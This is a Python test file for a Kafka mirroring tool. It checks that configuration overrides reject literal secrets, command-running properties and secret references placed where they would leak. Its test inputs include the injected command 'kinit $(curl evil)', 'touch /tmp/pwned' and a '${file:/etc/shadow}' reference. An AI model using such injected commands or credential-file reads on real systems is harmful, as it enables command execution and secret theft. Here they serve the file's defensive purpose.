"""Issue 15, items 11-12: what overrides may hold. Literal secrets in `producer`, `consumer` and
`spark.options` are refused (kmirror plan printed them before), secret references are resolved
only in properties that carry secrets, code-running properties cannot be overridden, and every
refusal is exit 2 naming the path, never the secret."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import yaml

from kmirror.errors import KmirrorError, ValidationError
from kmirror.estate.planner import flow_spec_for, parse_topology, plan_topology
from kmirror.flow.spec import parse_flow_spec
from kmirror.security.config import KINIT_CMD, resolve_references
from kmirror_cli.cli import main

SECRET = "hunter2-do-not-print"
CLUSTERS = {
    "west": {"bootstrap_servers": "w:9092", "datacenter": "w"},
    "east": {"bootstrap_servers": "e:9092", "datacenter": "e"},
}
LITERAL = (
    "a literal secret is not allowed in overrides (kmirror plan, diffs and flow specs print them); give the "
    "cluster a `security` section with a secret reference ({env: VAR}, {file: PATH}, {k8s_secret: NAME, key: "
    "KEY}, ...) (docs/security.md), or write a reference such as ${env:VAR} or ${file:/abs/path}"
)
SPARK = (
    "a secret is not allowed in spark options (plans and Spark manifests print them); Kafka credentials go in "
    "the cluster's security section: give the cluster a `security` section with a secret reference ({env: VAR}, "
    "{file: PATH}, {k8s_secret: NAME, key: KEY}, ...) (docs/security.md)"
)
CODE = "cannot be overridden: it makes every client run or load code; "
NOT_PLUGINS = "remove it; plugins, engines and callbacks are not configurable through kmirror"


def topology(**settings: Any) -> dict[str, Any]:
    decl = {"name": "dr", "pattern": "active-passive", "primary": "west", "standby": "east", **settings}
    return {"clusters": CLUSTERS, "topologies": [decl]}


def problems(raw: dict[str, Any]) -> list[str]:
    with pytest.raises(ValidationError) as info:
        parse_topology(raw)
    return [str(p) for p in info.value.problems]


def test_literal_secrets_in_overrides_are_refused_without_echoing_them() -> None:
    raw = topology(
        producer={"sasl.password": SECRET, "ssl.key.password": SECRET, "compression.type": "zstd"},
        consumer={
            "ssl.keystore.password": SECRET,
            "ssl.truststore.password": SECRET,
            "ssl.key.pem": SECRET,
            "sasl.oauthbearer.client.secret": SECRET,
        },
        spark={
            "options": {
                "spark.kafka.sasl.password": SECRET,
                "spark.hadoop.fs.s3a.secret.key": SECRET,
                "spark.executor.memoryOverhead": "1g",
            }
        },
    )
    found = problems(raw)
    assert found == [
        f"topologies[0].consumer.sasl.oauthbearer.client.secret: {LITERAL}",
        f"topologies[0].consumer.ssl.key.pem: {LITERAL}",
        f"topologies[0].consumer.ssl.keystore.password: {LITERAL}",
        f"topologies[0].consumer.ssl.truststore.password: {LITERAL}",
        # a Java-client name librdkafka would refuse at start (issue 25), named with what to use instead
        "topologies[0].consumer.ssl.truststore.password: unknown librdkafka consumer property "
        "'ssl.truststore.password'; it is a Java-client (MirrorMaker 2) property with no librdkafka equivalent "
        "(librdkafka reads CA certificates in PEM (ssl.ca.location), which need no password)",
        f"topologies[0].producer.sasl.password: {LITERAL}",
        f"topologies[0].producer.ssl.key.password: {LITERAL}",
        f"topologies[0].spark.options.spark.hadoop.fs.s3a.secret.key: {SPARK}",
        f"topologies[0].spark.options.spark.kafka.sasl.password: {SPARK}",
    ]
    assert SECRET not in "".join(found)


def test_plan_json_exits_2_and_prints_no_secret(tmp_path: Path, capsys: Any) -> None:
    """Before: exit 0 and `"producer": {"sasl.password": "hunter2-do-not-print"}` on stdout."""
    path = tmp_path / "t.yaml"
    raw = topology()
    raw["flows"] = {"west->east": {"producer": {"sasl.password": SECRET}}}
    path.write_text(yaml.safe_dump(raw))
    assert main(["plan", "--topology", str(path), "--format", "json"]) == 2
    out, err = capsys.readouterr()
    assert out == ""
    assert err == f"kmirror plan: 1 problem(s) in {path}:\n  - flows.west->east.producer.sasl.password: {LITERAL}\n"


def test_references_are_accepted_only_where_secrets_go() -> None:
    ok = topology(consumer={"sasl.oauthbearer.client.secret": "${env:OAUTH_SECRET}", "client.id": "mirror"})
    (flow,) = plan_topology(parse_topology(ok)).flows
    assert flow.consumer == {"sasl.oauthbearer.client.secret": "${env:OAUTH_SECRET}", "client.id": "mirror"}
    leaky = topology(consumer={"client.id": "${file:/etc/shadow}"}, producer={"transactional.id": "${env:HOME}"})
    assert problems(leaky) == [
        "topologies[0].consumer.client.id: the reference ${file:/etc/shadow} would be resolved into a property "
        "that carries no secret (its content would be sent to the brokers); references are resolved only in "
        "password/secret/ssl.*.pem properties: write the value itself",
        "topologies[0].producer.transactional.id: the reference ${env:HOME} would be resolved into a property "
        "that carries no secret (its content would be sent to the brokers); references are resolved only in "
        "password/secret/ssl.*.pem properties: write the value itself",
    ]


def test_resolution_reads_no_file_for_a_property_without_a_secret(tmp_path: Path) -> None:
    """Before: `client.id: ${file:...}` became the file's content, sent to every broker."""
    secret = tmp_path / "secret"
    secret.write_text(SECRET)
    assert resolve_references({"sasl.password": f"${{file:{secret}}}", "acks": "all"}) == {
        "sasl.password": SECRET,
        "acks": "all",
    }
    with pytest.raises(KmirrorError) as info:
        resolve_references({"client.id": f"${{file:{secret}}}"})
    assert str(info.value) == (
        f"client.id: the reference ${{file:{secret}}} is not resolved: references are resolved only in properties "
        "that carry secrets (passwords, secrets, ssl.*.pem); write the value itself"
    )


@pytest.mark.parametrize(
    ("name", "fix"),
    [
        ("sasl.kerberos.kinit.cmd", "the cluster's security.kerberos section configures kinit"),
        ("plugin.library.paths", NOT_PLUGINS),
        ("ssl.engine.location", NOT_PLUGINS),
        ("ssl.providers", NOT_PLUGINS),
        ("oauth_cb", NOT_PLUGINS),
        ("ssl.certificate.verify_cb", NOT_PLUGINS),
    ],
)
def test_code_running_properties_cannot_be_overridden(name: str, fix: str) -> None:
    raw = topology(producer={name: "touch /tmp/pwned"})
    raw["flows"] = {"west->east": {"consumer": {name: "x"}}}
    assert problems(raw) == [
        f"flows.west->east.consumer.{name}: {CODE}{fix}",
        f"topologies[0].producer.{name}: {CODE}{fix}",
    ]


def flow_raw(**extra: Any) -> dict[str, Any]:
    parsed = parse_topology(topology())
    raw = flow_spec_for(parsed, plan_topology(parsed).flows[0], "/ck")
    return {**raw, **extra}


def test_flow_specs_are_checked_the_same_way() -> None:
    raw = flow_raw(producer={"sasl.password": SECRET, "plugin.library.paths": "/x.so"})
    raw["source"]["config"] = {
        "sasl.kerberos.kinit.cmd": "kinit $(curl evil)",
        "client.id": "${env:HOME}",
        "sasl.password": SECRET,
    }
    raw["target"]["config"] = {"sasl.kerberos.kinit.cmd": KINIT_CMD, "sasl.password": "${env:EAST_PW}"}
    with pytest.raises(ValidationError) as info:
        parse_flow_spec(raw)
    text = str(info.value)
    assert SECRET not in text and "curl evil" not in text
    assert [p.path for p in info.value.problems] == [
        "producer.plugin.library.paths",
        "producer.sasl.password",
        "source.config.client.id",
        "source.config.sasl.kerberos.kinit.cmd",
        "source.config.sasl.password",
    ]
    assert info.value.problems[-1].message == (
        "a literal secret is not allowed in a flow spec; give the cluster a `security` section with a secret "
        "reference ({env: VAR}, {file: PATH}, {k8s_secret: NAME, key: KEY}, ...) (docs/security.md) and plan "
        "again, or write a reference such as ${env:VAR} or ${file:/abs/path}"
    )


def test_the_flow_spec_cli_exits_2_naming_the_override(tmp_path: Path, capsys: Any) -> None:
    flow = tmp_path / "flow.json"
    flow.write_text(json.dumps(flow_raw(consumer={"ssl.key.password": SECRET})))
    assert main(["translate", "--flow", str(flow), "--group", "g"]) == 2
    out, err = capsys.readouterr()
    assert out == "" and SECRET not in err
    assert err == f"kmirror translate: 1 problem(s) in {flow}:\n  - consumer.ssl.key.password: {LITERAL}\n"
